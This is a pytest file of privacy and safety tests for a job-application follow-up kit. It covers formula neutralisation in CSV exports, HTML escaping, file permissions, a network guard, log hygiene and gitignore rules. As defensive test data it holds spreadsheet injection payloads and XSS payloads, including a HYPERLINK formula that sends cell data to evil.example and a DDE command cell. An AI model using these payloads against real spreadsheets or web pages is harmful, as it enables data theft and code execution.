"""Privacy and safety: formulas neutralised in exports, user text escaped in HTML,
owner-only files, no network, nothing personal in logs or error messages, and
personal data kept out of git.
"""

from __future__ import annotations

import logging
import os
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from followup_kit.cli import main
from followup_kit.followups.schedule import follow_up_schedule
from followup_kit.io.kit_folder import export_tracker
from followup_kit.io.sources import import_source
from followup_kit.store.tracker import Tracker

ROOT = Path(__file__).resolve().parent.parent
NETGUARD = Path(__file__).resolve().parent / "netguard"

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 Cola",
    "-2 Minus Ltd",
    "@SUM(A1:A9)",
    "\tTabbed Inc",
    "\rReturn Corp",
    "'Quoted",
    "=1+2",
    "Plain & Co",
]


def mode(path) -> int:
    return stat.S_IMODE(Path(path).stat().st_mode)


# --- spreadsheets ---------------------------------------------------------------------------


@pytest.fixture
def risky_tracker(tmp_path):
    t = Tracker.create(tmp_path / "t.sqlite", timezone="Europe/London")
    for i, name in enumerate(RISKY):
        app = t.add_application(
            name.strip() if name[0] not in "\t\r" else name,
            "=cmd|' /C calc'!A0",
            applied_on="2026-01-05",
            notes=f"@note {i}",
        )
        person = t.add_contact(f"-Person {i}", company=name.strip(), email=f"p{i}@example.com", relation="interviewer")
        t.log_interview(app, "2026-01-12 10:00", [person], memorable_detail="+a detail")
    yield t
    t.close()


def test_exported_csv_cells_cannot_run_as_formulas(risky_tracker, tmp_path):
    written = export_tracker(risky_tracker, tmp_path / "export")
    checked = 0
    for path in written:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        for col in frame.columns:
            for value in frame[col]:
                checked += 1
                if value and not value.lstrip("-").replace(".", "").isdigit():
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, col, value)
    assert checked > 100


def test_export_round_trips_exactly(risky_tracker, tmp_path):
    export_tracker(risky_tracker, tmp_path / "export")
    with Tracker.create(tmp_path / "copy.sqlite", timezone="Europe/London") as copy:
        import_source(copy, tmp_path / "export")
        before, after = risky_tracker.tables(), copy.tables()
    for name in before:
        pd.testing.assert_frame_equal(before[name], after[name])
    apps = after["applications"]
    assert set(apps["company"]) >= {'=HYPERLINK("http://evil.example/?"&A1,"click")', "'Quoted", "@SUM(A1:A9)"}


def test_due_csv_output_is_neutralised_too(risky_tracker, capsys):
    """`followup-kit due --format csv` is also opened in spreadsheets."""
    code = main(["due", "--tracker", str(risky_tracker.path), "--as-of", "2026-01-12", "--format", "csv"])
    out = capsys.readouterr().out
    assert code == 0
    frame = pd.read_csv(pd.io.common.StringIO(out), dtype=str, keep_default_na=False)
    risky = [
        v
        for col in ("company", "role", "contact_name")
        if col in frame
        for v in frame[col]
        if v.startswith(("=", "+", "-", "@"))
    ]
    assert risky == [], "formula-like cells must be prefixed with an apostrophe"
    assert any(v.startswith("'=") for col in ("company", "role", "contact_name") if col in frame for v in frame[col])


# --- HTML ---------------------------------------------------------------------------------


def test_desk_escapes_user_text_in_drafts_and_lists(tmp_path):
    pytest.importorskip("ipywidgets")
    from followup_kit.notebook.desk.main import FollowUpDesk

    t = Tracker.create(tmp_path / "t.sqlite", timezone="UTC")
    app = t.add_application("<script>alert(1)</script>", "<b>Role</b>", applied_on="2026-03-01")
    person = t.add_contact(
        "<img src=x onerror=alert(2)>", company="X", email="a@example.com", relation="hiring_manager"
    )
    t.log_interview(
        app,
        "2026-03-10 10:00",
        [person],
        memorable_detail="<iframe src=//evil.example>",
        decision_expected_on="2026-03-13",
    )
    desk = FollowUpDesk(t, as_of="2026-03-11")
    shown = desk.draft_html.value + desk.summary.value + desk.actions_table().data
    assert "<script>" not in shown and "<img src=x" not in shown and "<iframe" not in shown
    assert "&lt;img src=x" in shown
    desk.new_app_company.input.value = "<svg onload=alert(3)>"
    desk.new_app_role.input.value = "\x07"
    desk.new_app_button.click()
    assert "<svg" not in desk.status.value + desk.new_app_role.message.value
    t.close()


# --- permissions ----------------------------------------------------------------------------


def test_everything_written_is_owner_only(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    os.umask(0o022)  # a typical, permissive umask: the kit must not rely on it
    db = tmp_path / "data" / "tracker.sqlite"
    assert main(["init", "--sample", "--tracker", str(db)]) == 0
    assert mode(db) == 0o600
    with Tracker.open(db) as t:
        t.mark_done("thank_you:i1:c1")  # a write, so the write-ahead log files exist
        for suffix in ("-wal", "-shm"):
            side = Path(str(db) + suffix)
            if side.exists():
                assert mode(side) & 0o077 == 0, (side.name, oct(mode(side)))
    assert main(["export", "--tracker", str(db), "--out", "exports/today"]) == 0
    assert mode(tmp_path / "exports" / "today") == 0o700
    assert all(mode(p) == 0o600 for p in (tmp_path / "exports" / "today").iterdir())
    assert main(["backup", "--tracker", str(db)]) == 0
    backups = list((tmp_path / "backups").iterdir())
    assert len(backups) == 1 and mode(backups[0]) == 0o600
    assert mode(tmp_path / "backups") & 0o077 == 0, oct(mode(tmp_path / "backups"))
    assert main(["ics", "--tracker", str(db), "--as-of", "2026-11-20", "--out", "cal/f.ics"]) == 0
    assert mode(tmp_path / "cal" / "f.ics") == 0o600
    sheet = tmp_path / "jobs.csv"
    sheet.write_text("Company,Role\nAcme,Analyst\n,Engineer\n", encoding="utf-8")
    assert main(["import", str(sheet), "--tracker", str(db), "--skip-invalid"]) == 0
    assert mode(tmp_path / "data" / "tracker.rejects.csv") == 0o600
    capsys.readouterr()


def test_backup_is_consistent_while_another_process_writes(tmp_path):
    from followup_kit.datasets.sample.tracker import create_sample_tracker

    db = tmp_path / "t.sqlite"
    create_sample_tracker(db).close()
    script = (
        "import sys\nfrom followup_kit.store.tracker import Tracker\n"
        "with Tracker.open(sys.argv[1]) as t:\n"
        "    for i in range(200):\n"
        "        t.add_application(f'Busy {i}', 'Role')\n"
    )
    writer = subprocess.Popen([sys.executable, "-c", script, str(db)], env=_env(), stderr=subprocess.PIPE, text=True)
    copies = []
    with Tracker.open(db) as t:
        for i in range(5):
            copies.append(t.backup(tmp_path / f"b{i}.sqlite"))
    assert writer.wait(timeout=120) == 0, writer.stderr.read()
    for copy in copies:
        with Tracker.open(copy) as b:
            assert b._conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
            names = b.applications["company"]
            busy = sorted(int(n.split()[1]) for n in names if n.startswith("Busy "))
            assert busy == list(range(len(busy)))  # a prefix of the writes: a consistent moment


# --- no network ----------------------------------------------------------------------------


def _env(guard=False, **extra):
    env = dict(os.environ)
    paths = ([str(NETGUARD)] if guard else []) + [str(ROOT)]
    env["PYTHONPATH"] = os.pathsep.join(paths + ([env["PYTHONPATH"]] if env.get("PYTHONPATH") else []))
    env.update({k: str(v) for k, v in extra.items()})
    return env


def _guarded(args, tmp_path, **kw):
    log = tmp_path / "netguard.log"
    return subprocess.run(
        [sys.executable, *args],
        env=_env(True, FOLLOWUP_KIT_NETGUARD_LOG=log),
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
        **kw,
    ), log


def test_the_guard_really_blocks(tmp_path):
    probe = (
        "import socket\n"
        "for target in [('203.0.113.1', 80), ('example.com', 443)]:\n"
        "    try:\n"
        "        socket.create_connection(target, timeout=3)\n"
        "        print('CONNECTED', target)\n"
        "    except OSError as exc:\n"
        "        print('refused', type(exc).__name__)\n"
        "s = socket.socket()\n"
        "try:\n"
        "    s.connect(('203.0.113.1', 80))\n"
        "except ConnectionRefusedError as exc:\n"
        "    print('raw refused', 'netguard' in str(exc))\n"
        "srv = socket.socket(); srv.bind(('127.0.0.1', 0)); srv.listen()\n"
        "socket.create_connection(srv.getsockname(), timeout=3); print('loopback ok')\n"
    )
    done, log = _guarded(["-c", probe], tmp_path)
    assert done.stdout.split("\n")[:4] == [
        "refused ConnectionRefusedError",
        "refused ConnectionRefusedError",
        "raw refused True",
        "loopback ok",
    ], done.stdout + done.stderr
    assert "203.0.113.1" in log.read_text()


def test_cli_works_with_the_network_off(tmp_path):
    db = tmp_path / "t.sqlite"
    sheet = tmp_path / "jobs.csv"
    sheet.write_text("Company,Role,Applied,Interview 1\nAcme,Analyst,2026-11-02,2026-11-12\n", encoding="utf-8")
    script = (
        "import sys\nfrom followup_kit.cli import main\n"
        f"db = {str(db)!r}\n"
        "for argv in (['init', '--sample'], ['import', 'jobs.csv'], ['export', '--out', 'exports/x'],\n"
        "             ['due', '--as-of', '2026-11-20'], ['ics', '--as-of', '2026-11-20'], ['summary'],\n"
        "             ['backup', '--out', 'backups/b.sqlite']):\n"
        "    code = main(argv + ['--tracker', db])\n"
        "    print('EXIT', argv[0], code, flush=True)\n"
    )
    done, log = _guarded(["-c", script], tmp_path)
    exits = [line.split()[1:] for line in done.stdout.splitlines() if line.startswith("EXIT")]
    assert exits == [[c, "0"] for c in ("init", "import", "export", "due", "ics", "summary", "backup")], done.stderr
    assert not log.exists(), log.read_text()


def test_desk_notebook_runs_through_papermill_with_the_network_off(tmp_path):
    """The follow-up desk notebook executed by papermill, kernel included, with sockets guarded."""
    from followup_kit.datasets.sample.tracker import create_sample_tracker

    create_sample_tracker(tmp_path / "t.sqlite").close()
    script = (
        "import papermill as pm, sys\n"
        "pm.execute_notebook(sys.argv[1], sys.argv[2], parameters={'tracker': sys.argv[3], 'as_of': '2026-11-20'},\n"
        "                    kernel_name='python3', progress_bar=False, cwd=sys.argv[4])\n"
    )
    nb = ROOT / "notebooks" / "follow_ups.ipynb"
    done, log = _guarded(
        ["-c", script, str(nb), str(tmp_path / "out.ipynb"), str(tmp_path / "t.sqlite"), str(nb.parent)],
        tmp_path,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    assert not log.exists(), log.read_text()
    assert "Thank-you" in (tmp_path / "out.ipynb").read_text(encoding="utf-8")


# --- logs and messages -------------------------------------------------------------------


def test_nothing_personal_is_logged(tmp_path, caplog):
    from followup_kit.datasets.sample.tracker import create_sample_tracker
    from followup_kit.followups.drafts import draft

    caplog.set_level(logging.DEBUG)
    sheet = tmp_path / "jobs.csv"
    sheet.write_text(
        "Company,Role,Applied,Interview 1,Referrer\nAcme,Analyst,2026-11-02,2026-11-12,Rosa Privatperson\n",
        encoding="utf-8",
    )
    with create_sample_tracker(tmp_path / "t.sqlite") as t:
        import_source(t, sheet)
        schedule = follow_up_schedule(t, as_of="2026-11-20")
        for key in schedule["action_key"][:10]:
            draft(t, key, as_of="2026-11-20")
        contacts = t.contacts
    secrets = set(contacts["email"].dropna()) | set(contacts["name"].dropna())
    assert len(secrets) > 10
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert [s for s in secrets if s in logged] == []


def test_import_errors_name_cells_not_email_addresses(tmp_path):
    sheet = tmp_path / "jobs.csv"
    sheet.write_text(
        "Company,Role,Referrer,Notes\n"
        "Acme,Analyst,ada.lovelace@example.com\x07,ok\n"
        "Globex,Engineer,Bob,write to bob.private@example.org \x00 soon\n",
        encoding="utf-8",
    )
    with Tracker.create(tmp_path / "t.sqlite", timezone="UTC") as t:
        result = import_source(t, sheet)  # the unreadable cells are left empty and listed
        message = str(result) + "\n".join(str(p) for p in result.problems)
        apps = t.applications
    assert pd.isna(apps.loc[0, "referrer_id"]) and apps["notes"].tolist() == ["ok", None]
    assert "row 2, column 'Referrer'" in message and "row 3, column 'Notes'" in message
    assert "ada.lovelace@example.com" not in message and "bob.private@example.org" not in message


# --- git ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path,ignored",
    [
        ("data/tracker.sqlite", True),
        ("data/tracker.sqlite-wal", True),
        ("data/tracker.rejects.csv", True),
        ("data/my-search.sqlite", True),
        ("reports/weekly-2026-11-20.html", True),
        ("exports/x/contacts.csv", True),
        ("backups/tracker-20261120.sqlite", True),
        ("jobs.rejects.csv", True),
        ("follow-ups.ics", True),
        ("data/sample/contacts.csv", False),
        ("data/benchmarks.csv", False),
    ],
)
def test_gitignore_keeps_personal_data_out(path, ignored):
    if not (ROOT / ".git").exists():
        pytest.skip("not a git checkout")
    done = subprocess.run(["git", "check-ignore", "-q", "--no-index", path], cwd=ROOT)
    assert (done.returncode == 0) == ignored, path
